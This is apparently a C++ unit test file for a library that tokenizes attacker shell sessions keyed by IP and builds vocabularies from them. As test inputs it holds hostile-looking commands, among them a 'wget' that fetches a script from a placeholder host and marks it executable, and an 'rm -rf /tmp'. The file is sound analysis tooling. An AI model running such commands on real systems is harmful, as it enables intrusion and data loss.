#define DOCTEST_CONFIG_IMPLEMENT_WITH_MAIN
#include <doctest.h>

#include <chrono>
#include <fstream>
#include <sstream>

#include <nlohmann/json.hpp>

#include "hc/corpus.hpp"

using namespace hc;

TEST_CASE("tokenize worked examples") {
    CHECK(tokenize("echo hi>log 2>&1") ==
          std::vector<std::string>{"echo", "hi", ">", "log", "_r_"});
    CHECK(tokenize("ls||rm -rf /tmp;a=b") ==
          std::vector<std::string>{"ls", "_P_", "rm", "-rf", "/tmp", "a", "=", "b"});
    CHECK(tokenize("") == std::vector<std::string>{});
    CHECK(tokenize("wget http://x/a.sh && chmod +x a.sh") ==
          std::vector<std::string>{"wget", "http://x/a.sh", "_A_", "chmod", "+x", "a.sh"});
}

TEST_CASE("tokenize matches checked-in oracle transcript") {
    std::ifstream in(HC_TEST_DATA_DIR "/tokenizer_transcript.jsonl");
    REQUIRE(in.good());
    std::string line;
    size_t n = 0, ok = 0;
    auto t0 = std::chrono::steady_clock::now();
    while (std::getline(in, line)) {
        if (line.empty()) continue;
        auto j = nlohmann::json::parse(line);
        auto expect = j.at("tokens").get<std::vector<std::string>>();
        auto got = tokenize(j.at("line").get<std::string>());
        ++n;
        if (got == expect) {
            ++ok;
        } else {
            CAPTURE(j.at("line").get<std::string>());
            CHECK(got == expect);
        }
    }
    auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(
                  std::chrono::steady_clock::now() - t0).count();
    CHECK(n >= 1050);
    CHECK(ok == n);
    CHECK(ms < 1000);
}

TEST_CASE("tokenize output never contains split characters") {
    std::ifstream in(HC_TEST_DATA_DIR "/tokenizer_transcript.jsonl");
    REQUIRE(in.good());
    std::string line;
    while (std::getline(in, line)) {
        if (line.empty()) continue;
        auto j = nlohmann::json::parse(line);
        for (const auto& tok : tokenize(j.at("line").get<std::string>())) {
            CHECK(!tok.empty());
            CHECK(tok.find_first_of(";,\"() ") == std::string::npos);
        }
    }
}

TEST_CASE("tokenize_session concatenates per-line tokens") {
    SessionRecord rec{"1.2.3.4", 0, {"ls", "pwd"}};
    CHECK(tokenize_session(rec) == std::vector<std::string>{"ls", "pwd"});
    CHECK(tokenize_session({"a", 0, {}}) == std::vector<std::string>{});
    CHECK(tokenize_session({"a", 0, {"a|b", "c"}}) ==
          std::vector<std::string>{"a", "_p_", "b", "c"});
}

TEST_CASE("vocabulary modes and reserved ids") {
    auto full = build_vocabulary({{"a", "b", "a"}}, VocabMode::FULL);
    CHECK(full.size() == 4);  // PAD, HAPAX, a, b
    CHECK(full.id_of("a") == 2);
    CHECK(full.id_of("b") == 3);

    auto merged = build_vocabulary({{"a", "b"}, {"a", "c"}}, VocabMode::HAPAX_MERGED);
    CHECK(merged.size() == 3);  // PAD, HAPAX, a
    CHECK(merged.id_of("b") == Vocabulary::HAPAX);
    CHECK(merged.id_of("c") == Vocabulary::HAPAX);
    CHECK(merged.id_of("a") == 2);

    CHECK_THROWS_AS(build_vocabulary({}, VocabMode::FULL), EmptyCorpus);
}

TEST_CASE("vocabulary size identity across modes") {
    // |V_FULL| - |V_HAPAX| = hapax_count - 1 whenever hapax_count >= 1
    std::vector<std::vector<std::string>> docs{
        {"a", "b", "c", "a", "a"}, {"b", "d"}, {"e", "f", "g", "a"}};
    auto full = build_vocabulary(docs, VocabMode::FULL);
    auto merged = build_vocabulary(docs, VocabMode::HAPAX_MERGED);
    size_t hapax = 0;  // c, d, e, f, g
    for (TokenId id = 2; id < full.size(); ++id)
        if (full.count_of(id) == 1) ++hapax;
    CHECK(hapax == 5);
    // Type counts: FULL's HAPAX slot is an unused reserved id, merged's HAPAX
    // is a genuine type; PAD is never a type.
    size_t full_types = full.size() - 2;
    size_t merged_types = merged.size() - 1;
    CHECK(full_types - merged_types == hapax - 1);
}

TEST_CASE("vocabulary id round trip and tsv round trip") {
    std::vector<std::vector<std::string>> docs{{"ls", "wget", "x\\y", "ls"}};
    auto vocab = build_vocabulary(docs, VocabMode::FULL);
    for (TokenId id = 2; id < vocab.size(); ++id) {
        CHECK(vocab.id_of(vocab.token_of(id)) == id);
    }
    std::stringstream ss;
    vocab.save_tsv(ss);
    auto loaded = Vocabulary::load_tsv(ss);
    CHECK(loaded.size() == vocab.size());
    for (TokenId id = 2; id < vocab.size(); ++id) {
        CHECK(loaded.token_of(id) == vocab.token_of(id));
        CHECK(loaded.count_of(id) == vocab.count_of(id));
    }
}

TEST_CASE("encode_tokens unknown-token policy per mode") {
    auto full = build_vocabulary({{"ls", "wget"}}, VocabMode::FULL);
    CHECK(encode_tokens({"ls", "zz", "wget"}, full) ==
          std::vector<TokenId>{full.id_of("ls"), full.id_of("wget")});

    auto merged = build_vocabulary({{"ls", "ls"}}, VocabMode::HAPAX_MERGED);
    CHECK(encode_tokens({"zz"}, merged) == std::vector<TokenId>{Vocabulary::HAPAX});
}

TEST_CASE("to_bow examples") {
    auto vocab = build_vocabulary({{"ls", "ls", "wget"}}, VocabMode::FULL);
    Bow bow = to_bow(std::vector<std::string>{"ls", "ls", "wget"}, vocab);
    CHECK(bow.size() == 2);
    CHECK(bow.at(vocab.id_of("ls")) == 2);
    CHECK(bow.at(vocab.id_of("wget")) == 1);
    CHECK(to_bow(std::vector<TokenId>{}).empty());
}

TEST_CASE("parse_records collects malformed lines, strict throws") {
    std::string text =
        R"({"ip":"1.1.1.1","ts":5,"commands":["ls"]})" "\n"
        "not json\n"
        R"({"ip":"2.2.2.2","ts":9,"commands":["id"]})" "\n"
        R"({"ip":"3.3.3.3"})" "\n";
    {
        std::istringstream in(text);
        std::vector<MalformedLine> errors;
        auto recs = parse_records(in, &errors);
        CHECK(recs.size() == 2);
        REQUIRE(errors.size() == 2);
        CHECK(errors[0].line_no == 2);
        CHECK(errors[1].line_no == 4);
    }
    {
        std::istringstream in(text);
        CHECK_THROWS_AS(parse_records(in, nullptr, true), MalformedLine);
    }
}

TEST_CASE("aggregate_by_ip orders by ts and conserves tokens") {
    std::vector<SessionRecord> records{
        {"192.0.2.1", 9, {"id"}},
        {"192.0.2.1", 5, {"ls"}},
        {"192.0.2.9", 7, {"wget x"}},
    };
    auto docs = aggregate_by_ip(records);
    REQUIRE(docs.size() == 2);
    // first-seen ip order
    CHECK(docs[0].key == "192.0.2.1");
    CHECK(docs[0].ts == 5);
    CHECK(docs[0].tokens == std::vector<std::string>{"ls", "id"});
    CHECK(docs[1].key == "192.0.2.9");

    size_t total = 0;
    for (const auto& r : records) total += tokenize_session(r).size();
    size_t agg = 0;
    for (const auto& d : docs) agg += d.tokens.size();
    CHECK(agg == total);
}

TEST_CASE("per_session_documents and session_ids agree") {
    std::vector<SessionRecord> records{
        {"a", 9, {"id"}}, {"a", 5, {"ls"}}, {"b", 7, {"pwd"}}, {"a", 5, {"w"}},
    };
    auto docs = per_session_documents(records);
    auto ids = session_ids(records);
    REQUIRE(docs.size() == 4);
    REQUIRE(ids.size() == 4);
    for (size_t i = 0; i < docs.size(); ++i) CHECK(docs[i].key == ids[i].str());
    // ties at ts=5 broken by input order: "ls" before "w"
    size_t a0 = 0;
    for (size_t i = 0; i < docs.size(); ++i)
        if (docs[i].key == "a-0") a0 = i;
    CHECK(docs[a0].tokens == std::vector<std::string>{"ls"});
    CHECK(docs[a0].ts == 5);
}
